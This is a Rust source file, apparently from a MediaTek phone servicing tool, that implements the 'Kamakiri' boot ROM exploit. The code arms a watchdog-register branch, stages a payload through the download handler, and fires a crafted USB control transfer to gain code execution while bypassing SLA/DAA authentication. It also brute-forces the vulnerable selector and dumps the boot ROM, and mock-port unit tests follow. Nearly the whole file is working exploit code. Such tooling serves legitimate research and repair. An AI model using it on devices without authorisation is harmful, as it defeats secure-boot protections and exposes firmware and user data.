//! Kamakiri: code execution in BROM context, bypassing SLA/DAA.
//!
//! The primitive arms a branch through the watchdog block, stages the payload
//! over the usual download path and then fires a class control transfer whose
//! `wIndex` selects the vulnerable handler entry. The transfer is expected to
//! stall; the stall is ignored.

use std::io::Write;

use log::{debug, info};
use mtk_port::{ProtocolPort, UsbControl};

use crate::Result;
use crate::err::Error;
use crate::mmio::RegBlock;
use crate::preloader::Preloader;
use crate::progress::ProgressReporter;

/// Answer of a freshly started generic payload.
pub const PAYLOAD_ACK: u32 = 0xA1A2A3A4;
/// Answer of the BROM dump payload.
pub const DUMP_PAYLOAD_ACK: u32 = 0xC1C2C3C4;

const BROM_SIZE: u32 = 0x20000;
const DUMP_CHUNK: usize = 16;

/// Generic payloads carry placeholder watchdog/UART words at their tail;
/// rewrite them for the chip at hand, pad to a word boundary and, for DA-path
/// uploads, append the dummy signature the download handler insists on.
pub fn fix_payload(payload: &[u8], watchdog_addr: u32, uart_addr: u32, da: bool) -> Vec<u8> {
    let mut payload = payload.to_vec();
    let n = payload.len();
    if n >= 8 {
        let wd = u32::from_le_bytes(payload[n - 4..].try_into().unwrap());
        let ua = u32::from_le_bytes(payload[n - 8..n - 4].try_into().unwrap());
        if wd == 0x10007000 {
            payload[n - 4..].copy_from_slice(&watchdog_addr.to_le_bytes());
        }
        if ua == 0x11002000 {
            payload[n - 8..n - 4].copy_from_slice(&uart_addr.to_le_bytes());
        }
    }
    while payload.len() % 4 != 0 {
        payload.push(0);
    }
    if da {
        payload.extend_from_slice(&[0u8; 0x100]);
    }
    payload
}

/// Stage the payload: arm the watchdog-block branch, flush latent caches and
/// push the bytes through the 0xE0 handler. Does not trigger execution yet.
fn stage<P: ProtocolPort>(
    pre: &mut Preloader<P>,
    payload: &[u8],
    payload_addr: u32,
) -> Result<()> {
    let wdt = RegBlock::new(pre.chip.watchdog_addr);
    wdt.write(pre, 0x50, payload_addr.swap_bytes())?;

    let armed = wdt.base() + 0x50;
    for i in 0..0xF {
        let back = 0xF - i;
        pre.read32(armed - back * 4, back + 1)?;
    }

    let port = pre.port();
    port.echo(&[0xE0])?;
    port.echo(&(payload.len() as u32).to_be_bytes())?;
    let status = port.read_u16_le()?;
    if status != 0 {
        return Err(Error::PayloadTooLarge(payload.len()));
    }

    port.write_all(payload)?;
    let mut ack = [0u8; 2];
    port.read_exact(&mut ack)?;
    port.read_exact(&mut ack)?;
    Ok(())
}

/// Fire the vulnerable control transfer for one `var1` candidate. The BROM
/// stalls the pipe while it jumps into our payload, so a pipe error is the
/// expected outcome and is swallowed.
fn trigger<P: ProtocolPort + UsbControl>(pre: &mut Preloader<P>, var1: u8) -> Result<()> {
    match pre.port().ctrl_in(0xA1, 0, 0, u16::from(var1)) {
        Ok(_) => {}
        Err(e) => debug!("kamakiri control transfer answered: {e}"),
    }
    Ok(())
}

/// Run the full Kamakiri sequence with the chip's configured `var1`.
pub fn exploit<P: ProtocolPort + UsbControl>(
    pre: &mut Preloader<P>,
    payload: &[u8],
    payload_addr: u32,
) -> Result<()> {
    stage(pre, payload, payload_addr)?;
    let var1 = pre.chip.var1;
    trigger(pre, var1)
}

/// Send a payload either through Kamakiri or, on open devices, through the
/// plain SEND_DA path.
pub fn send_payload<P: ProtocolPort + UsbControl>(
    pre: &mut Preloader<P>,
    payload: &[u8],
    addr: u32,
    force_kamakiri: bool,
) -> Result<()> {
    if force_kamakiri || pre.target_config.needs_exploit() {
        let payload = fix_payload(payload, pre.chip.watchdog_addr, pre.chip.uart_addr, false);
        info!("Trying kamakiri..");
        exploit(pre, &payload, addr)?;
        info!("Done sending payload...");
        Ok(())
    } else {
        info!("Sending payload via insecure da.");
        let payload = fix_payload(payload, pre.chip.watchdog_addr, pre.chip.uart_addr, true);
        pre.send_da(addr, 0x100, &payload)?;
        pre.jump_da(addr)?;
        info!("Done sending payload...");
        Ok(())
    }
}

/// Run a payload and wait for its hello word.
pub fn run_payload<P: ProtocolPort + UsbControl>(
    pre: &mut Preloader<P>,
    payload: &[u8],
    addr: u32,
    ack: u32,
) -> Result<()> {
    send_payload(pre, payload, addr, true)?;
    let answer = pre.port().read_u32_be()?;
    if answer != ack {
        return Err(Error::Exploit(format!(
            "payload answered {answer:#010x} instead of {ack:#010x}"
        )));
    }
    Ok(())
}

/// Discover `var1` on an unknown part: stage once, then walk the selector
/// space until the payload answers.
pub fn brute_force_var1<P: ProtocolPort + UsbControl>(
    pre: &mut Preloader<P>,
    payload: &[u8],
    addr: u32,
) -> Result<u8> {
    let payload = fix_payload(payload, pre.chip.watchdog_addr, pre.chip.uart_addr, false);
    stage(pre, &payload, addr)?;

    for var1 in 0x00..=0xFFu8 {
        trigger(pre, var1)?;
        let mut answer = [0u8; 4];
        if pre.port().read_avail(&mut answer)? == 4 {
            let word = u32::from_be_bytes(answer);
            if word == PAYLOAD_ACK || word == DUMP_PAYLOAD_ACK {
                info!("Found var1: {var1:#04x}");
                return Ok(var1);
            }
        }
    }
    Err(Error::Exploit("no var1 candidate made the payload answer".into()))
}

/// Pull the whole boot ROM through a running dump payload.
pub fn dump_brom<P: ProtocolPort>(
    port: &mut P,
    sink: &mut dyn Write,
    progress: &mut dyn ProgressReporter,
) -> Result<()> {
    progress.start(u64::from(BROM_SIZE));
    let mut chunk = [0u8; DUMP_CHUNK];
    for addr in (0..BROM_SIZE).step_by(DUMP_CHUNK) {
        port.read_exact(&mut chunk)?;
        sink.write_all(&chunk)?;
        progress.advance(u64::from(addr) + DUMP_CHUNK as u64);
    }
    progress.finish();
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::progress::Silent;
    use mtk_port::mock::{Io, ScriptPort};
    use mtk_soc::ChipConfig;

    fn echoed(bytes: &[u8]) -> [Io; 2] {
        [Io::Out(bytes.to_vec()), Io::In(bytes.to_vec())]
    }

    fn write32_script(script: &mut Vec<Io>, addr: u32, words: &[u32]) {
        script.extend(echoed(&[0xD4]));
        script.extend(echoed(&addr.to_be_bytes()));
        script.extend(echoed(&(words.len() as u32).to_be_bytes()));
        script.push(Io::In(vec![0x00, 0x00]));
        for w in words {
            script.extend(echoed(&w.to_be_bytes()));
        }
        script.push(Io::In(vec![0x00, 0x00]));
    }

    fn read32_script(script: &mut Vec<Io>, addr: u32, dwords: u32) {
        script.extend(echoed(&[0xD1]));
        script.extend(echoed(&addr.to_be_bytes()));
        script.extend(echoed(&dwords.to_be_bytes()));
        script.push(Io::In(vec![0x00, 0x00]));
        script.push(Io::In(vec![0u8; dwords as usize * 4]));
        script.push(Io::In(vec![0x00, 0x00]));
    }

    #[test]
    fn kamakiri_stages_payload_and_fires_the_control_transfer() {
        let chip = ChipConfig::by_hw_code(0x766).unwrap().clone();
        let payload = vec![0x11u8; 0x40];
        let payload_addr = chip.brom_payload_addr;
        let armed = chip.watchdog_addr + 0x50;

        let mut script = Vec::new();
        // watchdog-block branch armed with the byte-swapped payload address
        write32_script(&mut script, armed, &[payload_addr.swap_bytes()]);
        // cache flush reads walking up to the armed word
        for i in 0..0xFu32 {
            let back = 0xF - i;
            read32_script(&mut script, armed - back * 4, back + 1);
        }
        // length-checked upload through the 0xE0 handler
        script.extend(echoed(&[0xE0]));
        script.extend(echoed(&(payload.len() as u32).to_be_bytes()));
        script.push(Io::In(vec![0x00, 0x00])); // fits
        script.push(Io::Out(payload.clone()));
        script.push(Io::In(vec![0x00, 0x00]));
        script.push(Io::In(vec![0x00, 0x00]));

        let port = ScriptPort::new(script);
        let mut pre = Preloader::test_session(port, chip);
        exploit(&mut pre, &payload, payload_addr).unwrap();

        let port = pre.into_port();
        assert!(port.done());
        // bmRequestType 0xA1, bRequest 0, wValue 0, wIndex = var1
        assert_eq!(port.ctrl_transfers, vec![(0xA1, 0, 0, 0x25)]);
    }

    #[test]
    fn oversized_payload_is_rejected_by_the_brom() {
        let chip = ChipConfig::by_hw_code(0x766).unwrap().clone();
        let payload = vec![0x22u8; 8];
        let armed = chip.watchdog_addr + 0x50;

        let mut script = Vec::new();
        write32_script(&mut script, armed, &[chip.brom_payload_addr.swap_bytes()]);
        for i in 0..0xFu32 {
            let back = 0xF - i;
            read32_script(&mut script, armed - back * 4, back + 1);
        }
        script.extend(echoed(&[0xE0]));
        script.extend(echoed(&(payload.len() as u32).to_be_bytes()));
        script.push(Io::In(vec![0x01, 0x00])); // non-zero, little-endian

        let port = ScriptPort::new(script);
        let payload_addr = chip.brom_payload_addr;
        let mut pre = Preloader::test_session(port, chip);
        let err = exploit(&mut pre, &payload, payload_addr).unwrap_err();
        assert!(matches!(err, Error::PayloadTooLarge(8)));
    }

    #[test]
    fn dump_reads_the_whole_brom_in_16_byte_chunks() {
        let image = vec![0xABu8; BROM_SIZE as usize];
        let mut port = ScriptPort::new([Io::In(image.clone())]);
        let mut out = Vec::new();
        dump_brom(&mut port, &mut out, &mut Silent).unwrap();
        assert_eq!(out, image);
        assert!(port.done());
    }

    #[test]
    fn fix_payload_rewrites_tail_words() {
        let mut payload = vec![0x11u8; 8];
        payload[4..].copy_from_slice(&0x10007000u32.to_le_bytes());
        payload[..4].copy_from_slice(&0x11002000u32.to_le_bytes());

        let fixed = fix_payload(&payload, 0x10212000, 0x11005000, false);
        assert_eq!(&fixed[4..8], &0x10212000u32.to_le_bytes());
        assert_eq!(&fixed[..4], &0x11005000u32.to_le_bytes());
    }

    #[test]
    fn fix_payload_leaves_other_tails_alone() {
        let payload = vec![0xEEu8; 12];
        let fixed = fix_payload(&payload, 0x10212000, 0x11005000, false);
        assert_eq!(fixed, payload);
    }

    #[test]
    fn fix_payload_pads_and_appends_signature_for_da() {
        let payload = vec![0x22u8; 9];
        let fixed = fix_payload(&payload, 0x10007000, 0x11002000, true);
        assert_eq!(fixed.len(), 12 + 0x100);
        assert!(fixed[12..].iter().all(|&b| b == 0));
    }
}
